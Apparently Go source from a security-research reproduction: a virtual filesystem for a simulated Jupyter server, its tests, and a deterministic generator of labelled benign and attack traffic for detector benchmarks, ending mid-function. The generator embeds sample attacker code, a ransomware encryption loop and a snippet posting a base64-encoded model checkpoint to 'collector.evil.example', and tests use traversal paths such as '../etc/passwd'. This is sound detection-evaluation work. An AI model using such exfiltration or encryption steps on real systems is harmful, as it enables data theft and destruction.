			s.Executions++
		case "read", "list":
			s.Reads++
			s.BytesRead += r.Bytes
		case "write", "rename":
			s.Writes++
			s.BytesWrote += r.Bytes
		case "delete":
			s.Deletes++
		case "net":
			s.NetOps++
		case "shell":
			s.ShellOps++
		}
	}
	return out
}
