// Package vfs implements the virtual content filesystem backing the
// simulated Jupyter server: files, directories, and notebooks with
// checkpoints, quotas, and a change journal.
//
// The contents API is the primary asset surface in the paper's threat
// model — training data and notebooks live here, and ransomware and
// exfiltration act through it. All mutations are reported to a trace
// sink so detectors see every file operation, and checkpoints provide
// the recovery path the ransomware-response example exercises.
package vfs

import (
	"errors"
	"fmt"
	"math"
	"path"
	"sort"
	"strings"
	"sync"
	"time"

	"repro/internal/trace"
)

// Entry types.
const (
	TypeFile      = "file"
	TypeDirectory = "directory"
	TypeNotebook  = "notebook"
)

// Errors returned by filesystem operations.
var (
	ErrNotFound      = errors.New("vfs: not found")
	ErrExists        = errors.New("vfs: already exists")
	ErrIsDirectory   = errors.New("vfs: is a directory")
	ErrNotDirectory  = errors.New("vfs: not a directory")
	ErrDirNotEmpty   = errors.New("vfs: directory not empty")
	ErrQuotaExceeded = errors.New("vfs: quota exceeded")
	ErrNoCheckpoint  = errors.New("vfs: no such checkpoint")
	ErrBadPath       = errors.New("vfs: invalid path")
)

// Node is one filesystem entry.
type Node struct {
	Path     string
	Type     string
	Content  []byte
	Created  time.Time
	Modified time.Time
	Writable bool
}

// Clone deep-copies the node.
func (n *Node) Clone() *Node {
	out := *n
	out.Content = append([]byte(nil), n.Content...)
	return &out
}

// Checkpoint is a saved copy of a file's content.
type Checkpoint struct {
	ID      string
	Path    string
	Content []byte
	Taken   time.Time
}

// FS is an in-memory hierarchical filesystem. The zero value is not
// usable; call New.
type FS struct {
	mu          sync.RWMutex
	nodes       map[string]*Node // canonical path -> node
	checkpoints map[string][]Checkpoint
	clock       trace.Clock
	sink        trace.Sink
	quota       int64 // total content bytes; 0 = unlimited
	used        int64
	journal     []Change
	maxJournal  int
}

// Change is one journal entry describing a mutation.
type Change struct {
	Seq     int
	Time    time.Time
	Op      string // "create" | "write" | "delete" | "rename" | "restore"
	Path    string
	NewPath string // rename only
	Bytes   int
	Entropy float64 // entropy of written content
	User    string
}

// Option configures an FS.
type Option func(*FS)

// WithClock sets the clock.
func WithClock(c trace.Clock) Option { return func(f *FS) { f.clock = c } }

// WithSink sets the trace sink receiving file_op events.
func WithSink(s trace.Sink) Option { return func(f *FS) { f.sink = s } }

// WithQuota caps total stored bytes.
func WithQuota(bytes int64) Option { return func(f *FS) { f.quota = bytes } }

// WithJournalLimit caps retained journal entries (default 100000).
func WithJournalLimit(n int) Option { return func(f *FS) { f.maxJournal = n } }

// New returns an empty filesystem with a root directory.
func New(opts ...Option) *FS {
	f := &FS{
		nodes:       map[string]*Node{},
		checkpoints: map[string][]Checkpoint{},
		clock:       trace.RealClock{},
		sink:        trace.Discard,
		maxJournal:  100000,
	}
	for _, o := range opts {
		o(f)
	}
	now := f.clock.Now()
	f.nodes[""] = &Node{Path: "", Type: TypeDirectory, Created: now, Modified: now, Writable: true}
	return f
}

// Clean canonicalizes a content path: forward slashes, no leading
// slash, no dot segments. Rejects traversal outside the root.
func Clean(p string) (string, error) {
	orig := p
	p = strings.TrimPrefix(strings.ReplaceAll(p, "\\", "/"), "/")
	cleaned := path.Clean(p)
	if cleaned == "." {
		return "", nil
	}
	if cleaned == ".." || strings.HasPrefix(cleaned, "../") {
		return "", fmt.Errorf("%w: %q escapes root", ErrBadPath, orig)
	}
	return cleaned, nil
}

func typeForPath(p string) string {
	if strings.HasSuffix(p, ".ipynb") {
		return TypeNotebook
	}
	return TypeFile
}

func (f *FS) emit(op, target, user string, bytes int, entropy float64, ok bool, detail string) {
	f.sink.Emit(trace.Event{
		Kind: trace.KindFileOp, Op: op, Target: target, User: user,
		Bytes: int64(bytes), Entropy: entropy, Success: ok, Detail: detail,
	})
}

func (f *FS) journalAdd(c Change) {
	c.Seq = len(f.journal) + 1
	c.Time = f.clock.Now()
	f.journal = append(f.journal, c)
	if len(f.journal) > f.maxJournal {
		f.journal = f.journal[len(f.journal)-f.maxJournal:]
	}
}

// Mkdir creates a directory and any missing parents.
func (f *FS) Mkdir(p string) error {
	cp, err := Clean(p)
	if err != nil {
		return err
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.mkdirLocked(cp)
}

func (f *FS) mkdirLocked(cp string) error {
	if cp == "" {
		return nil
	}
	if n, ok := f.nodes[cp]; ok {
		if n.Type == TypeDirectory {
			return nil
		}
		return fmt.Errorf("%w: %s", ErrExists, cp)
	}
	parent := path.Dir(cp)
	if parent == "." {
		parent = ""
	}
	if err := f.mkdirLocked(parent); err != nil {
		return err
	}
	now := f.clock.Now()
	f.nodes[cp] = &Node{Path: cp, Type: TypeDirectory, Created: now, Modified: now, Writable: true}
	return nil
}

// Write stores content at path, creating parents as needed. user is
// recorded for attribution in the journal and trace events.
func (f *FS) Write(p, user string, content []byte) error {
	cp, err := Clean(p)
	if err != nil {
		return err
	}
	if cp == "" {
		return fmt.Errorf("%w: cannot write root", ErrIsDirectory)
	}
	ent := Entropy(content)
	f.mu.Lock()
	defer f.mu.Unlock()
	existing, exists := f.nodes[cp]
	if exists && existing.Type == TypeDirectory {
		f.emit("write", cp, user, len(content), ent, false, "is a directory")
		return fmt.Errorf("%w: %s", ErrIsDirectory, cp)
	}
	delta := int64(len(content))
	if exists {
		delta -= int64(len(existing.Content))
	}
	if f.quota > 0 && f.used+delta > f.quota {
		f.emit("write", cp, user, len(content), ent, false, "quota exceeded")
		return fmt.Errorf("%w: %s", ErrQuotaExceeded, cp)
	}
	parent := path.Dir(cp)
	if parent == "." {
		parent = ""
	}
	if err := f.mkdirLocked(parent); err != nil {
		f.emit("write", cp, user, len(content), ent, false, err.Error())
		return err
	}
	now := f.clock.Now()
	op := "write"
	if !exists {
		op = "create"
		f.nodes[cp] = &Node{Path: cp, Type: typeForPath(cp), Created: now, Writable: true}
	}
	n := f.nodes[cp]
	n.Content = append([]byte(nil), content...)
	n.Modified = now
	f.used += delta
	f.journalAdd(Change{Op: op, Path: cp, Bytes: len(content), Entropy: ent, User: user})
	f.emit(op, cp, user, len(content), ent, true, "")
	return nil
}

// Read returns a copy of the file content.
func (f *FS) Read(p, user string) ([]byte, error) {
	cp, err := Clean(p)
	if err != nil {
		return nil, err
	}
	f.mu.RLock()
	n, ok := f.nodes[cp]
	f.mu.RUnlock()
	if !ok {
		f.emit("read", cp, user, 0, 0, false, "not found")
		return nil, fmt.Errorf("%w: %s", ErrNotFound, cp)
	}
	if n.Type == TypeDirectory {
		f.emit("read", cp, user, 0, 0, false, "is a directory")
		return nil, fmt.Errorf("%w: %s", ErrIsDirectory, cp)
	}
	f.emit("read", cp, user, len(n.Content), 0, true, "")
	return append([]byte(nil), n.Content...), nil
}

// Stat returns a copy of the node metadata (content included).
func (f *FS) Stat(p string) (*Node, error) {
	cp, err := Clean(p)
	if err != nil {
		return nil, err
	}
	f.mu.RLock()
	defer f.mu.RUnlock()
	n, ok := f.nodes[cp]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNotFound, cp)
	}
	return n.Clone(), nil
}

// Exists reports whether a path exists.
func (f *FS) Exists(p string) bool {
	cp, err := Clean(p)
	if err != nil {
		return false
	}
	f.mu.RLock()
	defer f.mu.RUnlock()
	_, ok := f.nodes[cp]
	return ok
}

// List returns the immediate children of a directory, sorted by path.
func (f *FS) List(p string) ([]*Node, error) {
	cp, err := Clean(p)
	if err != nil {
		return nil, err
	}
	f.mu.RLock()
	defer f.mu.RUnlock()
	dir, ok := f.nodes[cp]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNotFound, cp)
	}
	if dir.Type != TypeDirectory {
		return nil, fmt.Errorf("%w: %s", ErrNotDirectory, cp)
	}
	prefix := cp
	if prefix != "" {
		prefix += "/"
	}
	var out []*Node
	for np, n := range f.nodes {
		if np == cp || !strings.HasPrefix(np, prefix) {
			continue
		}
		if strings.Contains(np[len(prefix):], "/") {
			continue
		}
		out = append(out, n.Clone())
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Path < out[j].Path })
	return out, nil
}

// Walk returns every non-directory node under root (inclusive of
// nested directories), sorted by path.
func (f *FS) Walk(root string) ([]*Node, error) {
	cp, err := Clean(root)
	if err != nil {
		return nil, err
	}
	f.mu.RLock()
	defer f.mu.RUnlock()
	prefix := cp
	if prefix != "" {
		prefix += "/"
	}
	var out []*Node
	for np, n := range f.nodes {
		if n.Type == TypeDirectory {
			continue
		}
		if cp == "" || np == cp || strings.HasPrefix(np, prefix) {
			out = append(out, n.Clone())
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Path < out[j].Path })
	return out, nil
}

// Delete removes a file or empty directory.
func (f *FS) Delete(p, user string) error {
	cp, err := Clean(p)
	if err != nil {
		return err
	}
	if cp == "" {
		return fmt.Errorf("%w: cannot delete root", ErrBadPath)
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	n, ok := f.nodes[cp]
	if !ok {
		f.emit("delete", cp, user, 0, 0, false, "not found")
		return fmt.Errorf("%w: %s", ErrNotFound, cp)
	}
	if n.Type == TypeDirectory {
		prefix := cp + "/"
		for np := range f.nodes {
			if strings.HasPrefix(np, prefix) {
				f.emit("delete", cp, user, 0, 0, false, "not empty")
				return fmt.Errorf("%w: %s", ErrDirNotEmpty, cp)
			}
		}
	}
	f.used -= int64(len(n.Content))
	delete(f.nodes, cp)
	f.journalAdd(Change{Op: "delete", Path: cp, User: user})
	f.emit("delete", cp, user, 0, 0, true, "")
	return nil
}

// Rename moves a file to a new path.
func (f *FS) Rename(oldP, newP, user string) error {
	co, err := Clean(oldP)
	if err != nil {
		return err
	}
	cn, err := Clean(newP)
	if err != nil {
		return err
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	n, ok := f.nodes[co]
	if !ok {
		f.emit("rename", co, user, 0, 0, false, "not found")
		return fmt.Errorf("%w: %s", ErrNotFound, co)
	}
	if _, exists := f.nodes[cn]; exists {
		f.emit("rename", co, user, 0, 0, false, "target exists")
		return fmt.Errorf("%w: %s", ErrExists, cn)
	}
	if n.Type == TypeDirectory {
		return fmt.Errorf("%w: directory rename unsupported: %s", ErrIsDirectory, co)
	}
	parent := path.Dir(cn)
	if parent == "." {
		parent = ""
	}
	if err := f.mkdirLocked(parent); err != nil {
		return err
	}
	delete(f.nodes, co)
	n.Path = cn
	n.Type = typeForPath(cn)
	n.Modified = f.clock.Now()
	f.nodes[cn] = n
	f.checkpoints[cn] = append(f.checkpoints[cn], f.checkpoints[co]...)
	delete(f.checkpoints, co)
	f.journalAdd(Change{Op: "rename", Path: co, NewPath: cn, User: user})
	f.emit("rename", co, user, 0, 0, true, "-> "+cn)
	return nil
}

// CreateCheckpoint saves the current content of a file.
func (f *FS) CreateCheckpoint(p string) (Checkpoint, error) {
	cp, err := Clean(p)
	if err != nil {
		return Checkpoint{}, err
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	n, ok := f.nodes[cp]
	if !ok || n.Type == TypeDirectory {
		return Checkpoint{}, fmt.Errorf("%w: %s", ErrNotFound, cp)
	}
	ck := Checkpoint{
		ID:      fmt.Sprintf("ckpt-%d", len(f.checkpoints[cp])+1),
		Path:    cp,
		Content: append([]byte(nil), n.Content...),
		Taken:   f.clock.Now(),
	}
	f.checkpoints[cp] = append(f.checkpoints[cp], ck)
	return ck, nil
}

// Checkpoints lists checkpoints for a path, oldest first.
func (f *FS) Checkpoints(p string) ([]Checkpoint, error) {
	cp, err := Clean(p)
	if err != nil {
		return nil, err
	}
	f.mu.RLock()
	defer f.mu.RUnlock()
	out := make([]Checkpoint, len(f.checkpoints[cp]))
	copy(out, f.checkpoints[cp])
	return out, nil
}

// RestoreCheckpoint restores a file to a checkpoint's content.
func (f *FS) RestoreCheckpoint(p, id, user string) error {
	cp, err := Clean(p)
	if err != nil {
		return err
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, ck := range f.checkpoints[cp] {
		if ck.ID == id {
			now := f.clock.Now()
			n, ok := f.nodes[cp]
			if !ok {
				n = &Node{Path: cp, Type: typeForPath(cp), Created: now, Writable: true}
				f.nodes[cp] = n
			}
			f.used += int64(len(ck.Content)) - int64(len(n.Content))
			n.Content = append([]byte(nil), ck.Content...)
			n.Modified = now
			f.journalAdd(Change{Op: "restore", Path: cp, Bytes: len(ck.Content), User: user})
			f.emit("restore", cp, user, len(ck.Content), 0, true, id)
			return nil
		}
	}
	return fmt.Errorf("%w: %s on %s", ErrNoCheckpoint, id, cp)
}

// Journal returns a copy of the change journal (oldest first).
func (f *FS) Journal() []Change {
	f.mu.RLock()
	defer f.mu.RUnlock()
	out := make([]Change, len(f.journal))
	copy(out, f.journal)
	return out
}

// JournalSince returns journal entries with Seq > seq.
func (f *FS) JournalSince(seq int) []Change {
	f.mu.RLock()
	defer f.mu.RUnlock()
	var out []Change
	for _, c := range f.journal {
		if c.Seq > seq {
			out = append(out, c)
		}
	}
	return out
}

// Used returns the total stored content bytes.
func (f *FS) Used() int64 {
	f.mu.RLock()
	defer f.mu.RUnlock()
	return f.used
}

// Count returns the number of non-directory entries.
func (f *FS) Count() int {
	f.mu.RLock()
	defer f.mu.RUnlock()
	n := 0
	for _, node := range f.nodes {
		if node.Type != TypeDirectory {
			n++
		}
	}
	return n
}

// Entropy computes the Shannon entropy of data in bits per byte.
// Encrypted or compressed content approaches 8.0; text sits well
// below — the signal the ransomware and exfiltration detectors use.
func Entropy(data []byte) float64 {
	if len(data) == 0 {
		return 0
	}
	var counts [256]int
	for _, b := range data {
		counts[b]++
	}
	total := float64(len(data))
	var h float64
	for _, c := range counts {
		if c == 0 {
			continue
		}
		p := float64(c) / total
		h -= p * math.Log2(p)
	}
	return h
}
