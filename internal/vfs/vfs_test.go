package vfs

import (
	"bytes"
	"errors"
	"math/rand"
	"strings"
	"testing"
	"testing/quick"
	"time"

	"repro/internal/trace"
)

var t0 = time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)

func newFS(t *testing.T) (*FS, *trace.Ring) {
	t.Helper()
	ring := trace.NewRing(10000)
	bus := trace.NewBus(trace.NewFakeClock(t0))
	bus.Subscribe(ring)
	return New(WithClock(trace.NewFakeClock(t0)), WithSink(bus)), ring
}

func TestCleanPaths(t *testing.T) {
	cases := map[string]string{
		"a/b.txt":  "a/b.txt",
		"/a/b.txt": "a/b.txt",
		"a//b":     "a/b",
		"a/./b":    "a/b",
		"a/x/../b": "a/b",
		"":         "",
		"/":        "",
		"a\\b":     "a/b",
	}
	for in, want := range cases {
		got, err := Clean(in)
		if err != nil || got != want {
			t.Errorf("Clean(%q) = %q,%v want %q", in, got, err, want)
		}
	}
}

func TestCleanRejectsEscape(t *testing.T) {
	for _, p := range []string{"..", "../etc/passwd", "a/../../etc"} {
		if _, err := Clean(p); !errors.Is(err, ErrBadPath) {
			t.Errorf("Clean(%q) err = %v", p, err)
		}
	}
}

func TestWriteReadDelete(t *testing.T) {
	fs, _ := newFS(t)
	if err := fs.Write("data/a.txt", "alice", []byte("hello")); err != nil {
		t.Fatal(err)
	}
	got, err := fs.Read("data/a.txt", "alice")
	if err != nil || string(got) != "hello" {
		t.Fatalf("read = %q %v", got, err)
	}
	if fs.Used() != 5 || fs.Count() != 1 {
		t.Fatalf("used=%d count=%d", fs.Used(), fs.Count())
	}
	if err := fs.Delete("data/a.txt", "alice"); err != nil {
		t.Fatal(err)
	}
	if fs.Used() != 0 {
		t.Fatalf("used after delete = %d", fs.Used())
	}
	if _, err := fs.Read("data/a.txt", "alice"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("err = %v", err)
	}
}

func TestWriteCreatesParents(t *testing.T) {
	fs, _ := newFS(t)
	if err := fs.Write("a/b/c/d.txt", "u", []byte("x")); err != nil {
		t.Fatal(err)
	}
	n, err := fs.Stat("a/b")
	if err != nil || n.Type != TypeDirectory {
		t.Fatalf("parent = %+v %v", n, err)
	}
}

func TestNotebookTypeDetection(t *testing.T) {
	fs, _ := newFS(t)
	_ = fs.Write("nb/x.ipynb", "u", []byte("{}"))
	n, _ := fs.Stat("nb/x.ipynb")
	if n.Type != TypeNotebook {
		t.Fatalf("type = %s", n.Type)
	}
}

func TestListAndWalk(t *testing.T) {
	fs, _ := newFS(t)
	_ = fs.Write("d/a.txt", "u", []byte("1"))
	_ = fs.Write("d/b.txt", "u", []byte("2"))
	_ = fs.Write("d/sub/c.txt", "u", []byte("3"))
	kids, err := fs.List("d")
	if err != nil {
		t.Fatal(err)
	}
	// a.txt, b.txt, sub
	if len(kids) != 3 || kids[0].Path != "d/a.txt" {
		t.Fatalf("list = %+v", kids)
	}
	all, err := fs.Walk("d")
	if err != nil || len(all) != 3 {
		t.Fatalf("walk = %d %v", len(all), err)
	}
	rootAll, _ := fs.Walk("")
	if len(rootAll) != 3 {
		t.Fatalf("root walk = %d", len(rootAll))
	}
}

func TestListNonDirectory(t *testing.T) {
	fs, _ := newFS(t)
	_ = fs.Write("f.txt", "u", []byte("x"))
	if _, err := fs.List("f.txt"); !errors.Is(err, ErrNotDirectory) {
		t.Fatalf("err = %v", err)
	}
}

func TestDeleteNonEmptyDir(t *testing.T) {
	fs, _ := newFS(t)
	_ = fs.Write("d/a.txt", "u", []byte("x"))
	if err := fs.Delete("d", "u"); !errors.Is(err, ErrDirNotEmpty) {
		t.Fatalf("err = %v", err)
	}
	_ = fs.Delete("d/a.txt", "u")
	if err := fs.Delete("d", "u"); err != nil {
		t.Fatalf("empty dir delete: %v", err)
	}
}

func TestRename(t *testing.T) {
	fs, _ := newFS(t)
	_ = fs.Write("a.txt", "u", []byte("data"))
	if err := fs.Rename("a.txt", "b.locked", "u"); err != nil {
		t.Fatal(err)
	}
	if fs.Exists("a.txt") || !fs.Exists("b.locked") {
		t.Fatal("rename did not move")
	}
	got, _ := fs.Read("b.locked", "u")
	if string(got) != "data" {
		t.Fatalf("content = %q", got)
	}
}

func TestRenameOntoExisting(t *testing.T) {
	fs, _ := newFS(t)
	_ = fs.Write("a", "u", []byte("1"))
	_ = fs.Write("b", "u", []byte("2"))
	if err := fs.Rename("a", "b", "u"); !errors.Is(err, ErrExists) {
		t.Fatalf("err = %v", err)
	}
}

func TestQuota(t *testing.T) {
	fs := New(WithQuota(10))
	if err := fs.Write("a", "u", []byte("12345")); err != nil {
		t.Fatal(err)
	}
	if err := fs.Write("b", "u", []byte("1234567")); !errors.Is(err, ErrQuotaExceeded) {
		t.Fatalf("err = %v", err)
	}
	// Overwrite within quota must be allowed (delta accounting).
	if err := fs.Write("a", "u", []byte("1234567890")); err != nil {
		t.Fatalf("overwrite within quota: %v", err)
	}
}

func TestCheckpointRestore(t *testing.T) {
	fs, _ := newFS(t)
	_ = fs.Write("nb.ipynb", "u", []byte("original"))
	ck, err := fs.CreateCheckpoint("nb.ipynb")
	if err != nil {
		t.Fatal(err)
	}
	_ = fs.Write("nb.ipynb", "u", []byte("ENCRYPTED-GARBAGE"))
	if err := fs.RestoreCheckpoint("nb.ipynb", ck.ID, "admin"); err != nil {
		t.Fatal(err)
	}
	got, _ := fs.Read("nb.ipynb", "u")
	if string(got) != "original" {
		t.Fatalf("restored = %q", got)
	}
	cks, _ := fs.Checkpoints("nb.ipynb")
	if len(cks) != 1 {
		t.Fatalf("checkpoints = %d", len(cks))
	}
}

func TestRestoreUnknownCheckpoint(t *testing.T) {
	fs, _ := newFS(t)
	_ = fs.Write("f", "u", []byte("x"))
	if err := fs.RestoreCheckpoint("f", "ckpt-99", "u"); !errors.Is(err, ErrNoCheckpoint) {
		t.Fatalf("err = %v", err)
	}
}

func TestCheckpointSurvivesRename(t *testing.T) {
	fs, _ := newFS(t)
	_ = fs.Write("a.txt", "u", []byte("v1"))
	ck, _ := fs.CreateCheckpoint("a.txt")
	_ = fs.Rename("a.txt", "a.locked", "u")
	if err := fs.RestoreCheckpoint("a.locked", ck.ID, "u"); err != nil {
		t.Fatalf("restore after rename: %v", err)
	}
	got, _ := fs.Read("a.locked", "u")
	if string(got) != "v1" {
		t.Fatalf("content = %q", got)
	}
}

func TestJournalRecordsMutations(t *testing.T) {
	fs, _ := newFS(t)
	_ = fs.Write("a", "alice", []byte("1"))
	_ = fs.Write("a", "alice", []byte("2"))
	_ = fs.Rename("a", "b", "alice")
	_ = fs.Delete("b", "alice")
	j := fs.Journal()
	ops := make([]string, len(j))
	for i, c := range j {
		ops[i] = c.Op
	}
	want := "create,write,rename,delete"
	if strings.Join(ops, ",") != want {
		t.Fatalf("ops = %v", ops)
	}
	since := fs.JournalSince(2)
	if len(since) != 2 || since[0].Op != "rename" {
		t.Fatalf("since = %+v", since)
	}
}

func TestTraceEventsEmitted(t *testing.T) {
	fs, ring := newFS(t)
	_ = fs.Write("a", "alice", []byte("hello"))
	_, _ = fs.Read("a", "bob")
	_, _ = fs.Read("missing", "bob")
	evs := ring.Snapshot()
	if len(evs) != 3 {
		t.Fatalf("events = %d", len(evs))
	}
	if evs[0].Op != "create" || !evs[0].Success || evs[0].User != "alice" {
		t.Fatalf("ev0 = %+v", evs[0])
	}
	if evs[2].Success {
		t.Fatal("failed read reported success")
	}
}

func TestEntropyBounds(t *testing.T) {
	if e := Entropy(nil); e != 0 {
		t.Fatalf("entropy(nil) = %f", e)
	}
	if e := Entropy(bytes.Repeat([]byte{'a'}, 1000)); e != 0 {
		t.Fatalf("entropy(aaa) = %f", e)
	}
	text := []byte(strings.Repeat("the quick brown fox jumps over the lazy dog ", 50))
	if e := Entropy(text); e < 3.0 || e > 5.0 {
		t.Fatalf("entropy(text) = %f", e)
	}
	rng := rand.New(rand.NewSource(1))
	random := make([]byte, 64*1024)
	rng.Read(random)
	if e := Entropy(random); e < 7.9 {
		t.Fatalf("entropy(random) = %f", e)
	}
}

func TestEntropyRange(t *testing.T) {
	f := func(data []byte) bool {
		e := Entropy(data)
		return e >= 0 && e <= 8.0
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestWriteReadRoundTripProperty(t *testing.T) {
	fs := New()
	f := func(content []byte) bool {
		if err := fs.Write("prop/file.bin", "u", content); err != nil {
			return false
		}
		got, err := fs.Read("prop/file.bin", "u")
		return err == nil && bytes.Equal(got, content)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

func TestWriteToDirectoryFails(t *testing.T) {
	fs, _ := newFS(t)
	_ = fs.Mkdir("d")
	if err := fs.Write("d", "u", []byte("x")); !errors.Is(err, ErrIsDirectory) {
		t.Fatalf("err = %v", err)
	}
	if err := fs.Write("", "u", []byte("x")); err == nil {
		t.Fatal("write to root accepted")
	}
}
