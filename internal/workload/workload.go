// Package workload generates labelled traffic for the quantitative
// experiments: a benign science-workload model (notebook editing,
// execution bursts, checkpointing, moderate data movement) and
// injectors for every attack class, producing trace-event streams
// with ground-truth labels so precision/recall can be computed
// exactly.
//
// The generator is deterministic: it takes a seed and a fake clock, so
// every benchmark run sees the same traffic. This stands in for the
// production NCSA traffic the paper's authors can observe but cannot
// share ("log anonymization and privacy-preserving sharing need to be
// studied") — the open dataset the paper calls for, in synthetic form.
package workload

import (
	"fmt"
	"math/rand"
	"sync"
	"time"

	"repro/internal/trace"
	"repro/internal/vfs"
)

// Label marks a ground-truth attack window.
type Label struct {
	Actor string
	Class string
	Start time.Time
	End   time.Time
}

// Trace is a generated event stream with ground truth.
type Trace struct {
	Events []trace.Event
	Labels []Label
}

// MaliciousActors returns the set of labelled hostile actors.
func (t *Trace) MaliciousActors() map[string]string {
	out := map[string]string{}
	for _, l := range t.Labels {
		out[l.Actor] = l.Class
	}
	return out
}

// Generator produces deterministic event streams.
type Generator struct {
	rng   *rand.Rand
	clock *trace.FakeClock
	seq   uint64
}

// NewGenerator returns a generator seeded at start time.
func NewGenerator(seed int64, start time.Time) *Generator {
	return &Generator{
		rng:   rand.New(rand.NewSource(seed)),
		clock: trace.NewFakeClock(start),
	}
}

// Now exposes the generator clock.
func (g *Generator) Now() time.Time { return g.clock.Now() }

// step advances time by a jittered duration around mean.
func (g *Generator) step(mean time.Duration) time.Time {
	jitter := 0.5 + g.rng.Float64() // 0.5x..1.5x
	return g.clock.Advance(time.Duration(float64(mean) * jitter))
}

func (g *Generator) stamp(e trace.Event) trace.Event {
	g.seq++
	e.Seq = g.seq
	e.Time = g.clock.Now()
	return e
}

// lowEntropyText simulates notebook/CSV content entropy (~4.2 b/B).
func (g *Generator) lowEntropy() float64 { return 3.6 + g.rng.Float64()*1.2 }

// highEntropy simulates ciphertext/compressed entropy (~7.9 b/B).
func (g *Generator) highEntropy() float64 { return 7.6 + g.rng.Float64()*0.39 }

// Benign appends steps of ordinary researcher behaviour for the given
// users: cell executions, file reads/writes, checkpoints, the odd
// small outbound request (package metadata fetch), and login events.
func (g *Generator) Benign(t *Trace, users []string, steps int) {
	benignCode := []string{
		`data = read_file("data/train.csv")` + "\n" + `print(len(data))`,
		`model = "resnet50"` + "\n" + `print("training", model)`,
		`rows = split(read_file("data/train.csv"), "\n")` + "\n" + `print("rows", len(rows))`,
		`spin(400)` + "\n" + `print("epoch done")`,
		`write_file("results/metrics.json", "{\"acc\": 0.93}")`,
		`print(sha256("experiment-7"))`,
	}
	for i := 0; i < steps; i++ {
		user := users[g.rng.Intn(len(users))]
		ip := fmt.Sprintf("10.0.%d.%d", 1+g.rng.Intn(3), 10+g.rng.Intn(40))
		kern := fmt.Sprintf("kern-b%02d", 1+g.rng.Intn(4))
		g.step(2 * time.Second)
		switch g.rng.Intn(10) {
		case 0: // login
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindAuth, SrcIP: ip, User: user, Op: "allow", Success: true,
			}))
		case 1, 2: // HTTP content browsing
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindHTTP, Method: "GET",
				Path: "/api/contents/notebooks", Status: 200,
				SrcIP: ip, User: user, Success: true,
			}))
		case 3, 4, 5: // cell execution
			code := benignCode[g.rng.Intn(len(benignCode))]
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindExec, KernelID: kern, User: user,
				Code: code, Success: true, CPUMillis: int64(50 + g.rng.Intn(400)),
			}))
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindSysRes, KernelID: kern, User: user,
				CPUMillis: int64(50 + g.rng.Intn(400)), Success: true,
			}))
		case 6, 7: // notebook save (low entropy write)
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindFileOp, Op: "write", User: user,
				Target:  fmt.Sprintf("notebooks/analysis_%d.ipynb", g.rng.Intn(8)),
				Bytes:   int64(2000 + g.rng.Intn(30000)),
				Entropy: g.lowEntropy(), Success: true,
			}))
		case 8: // data read
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindFileOp, Op: "read", User: user,
				Target: "data/train.csv",
				Bytes:  int64(10000 + g.rng.Intn(100000)), Success: true,
			}))
		case 9: // small benign outbound fetch (conda metadata)
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindNetOp, Op: "GET", User: user, KernelID: kern,
				Target:  "http://conda.internal/pkgs/repodata.json",
				Bytes:   int64(200 + g.rng.Intn(800)),
				Entropy: g.lowEntropy(), Success: true,
			}))
		}
	}
}

// InjectRansomware appends an encryption sweep by actor over n files.
func (g *Generator) InjectRansomware(t *Trace, actor string, files int) {
	start := g.step(5 * time.Second)
	kern := "kern-rw"
	t.Events = append(t.Events, g.stamp(trace.Event{
		Kind: trace.KindExec, KernelID: kern, User: actor,
		Code:    `key = "beef"` + "\n" + `for f in list_files("notebooks")` + "\n" + `    write_file(f, encrypt(read_file(f), key))` + "\n" + `end`,
		Success: true, CPUMillis: 900,
	}))
	for i := 0; i < files; i++ {
		g.step(300 * time.Millisecond)
		target := fmt.Sprintf("notebooks/analysis_%d.ipynb", i)
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindFileOp, Op: "read", User: actor, Target: target,
			Bytes: int64(4000 + g.rng.Intn(20000)), Success: true,
		}))
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindFileOp, Op: "write", User: actor, Target: target,
			Bytes:   int64(4000 + g.rng.Intn(20000)),
			Entropy: g.highEntropy(), Success: true,
		}))
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindFileOp, Op: "rename", User: actor, Target: target,
			Detail: "-> " + target + ".locked", Success: true,
		}))
	}
	t.Events = append(t.Events, g.stamp(trace.Event{
		Kind: trace.KindFileOp, Op: "create", User: actor,
		Target: "README_RANSOM.txt", Bytes: 120, Entropy: 4.1, Success: true,
	}))
	t.Labels = append(t.Labels, Label{Actor: actor, Class: "ransomware", Start: start, End: g.Now()})
}

// InjectExfil appends a read-then-upload flow of totalBytes in chunks.
func (g *Generator) InjectExfil(t *Trace, actor string, totalBytes int64, chunks int) {
	start := g.step(5 * time.Second)
	kern := "kern-ex"
	t.Events = append(t.Events, g.stamp(trace.Event{
		Kind: trace.KindExec, KernelID: kern, User: actor,
		Code:    `payload = b64encode(read_file("models/checkpoint_7b.bin"))` + "\n" + `http_post("http://collector.evil.example/drop", payload)`,
		Success: true, CPUMillis: 300,
	}))
	t.Events = append(t.Events, g.stamp(trace.Event{
		Kind: trace.KindFileOp, Op: "read", User: actor,
		Target: "models/checkpoint_7b.bin", Bytes: totalBytes, Success: true,
	}))
	if chunks <= 0 {
		chunks = 1
	}
	per := totalBytes / int64(chunks)
	for i := 0; i < chunks; i++ {
		g.step(500 * time.Millisecond)
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindNetOp, Op: "POST", User: actor, KernelID: kern,
